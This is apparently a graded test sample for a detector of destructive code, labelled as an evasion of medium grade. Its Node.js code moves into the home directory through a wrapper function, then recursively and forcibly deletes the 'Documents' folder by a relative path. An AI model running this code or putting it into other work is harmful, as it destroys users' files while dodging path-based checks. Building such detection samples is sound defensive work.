// evasion: process.chdir wrapped in a helper called with the home directory, then a relative directory removed with fs.promises.rm
// grade: medium; does: delete
const fs = require('fs'); const os = require('os');
function enter(d) { process.chdir(d); }
enter(os.homedir());
fs.promises.rm('Documents', { recursive: true, force: true });
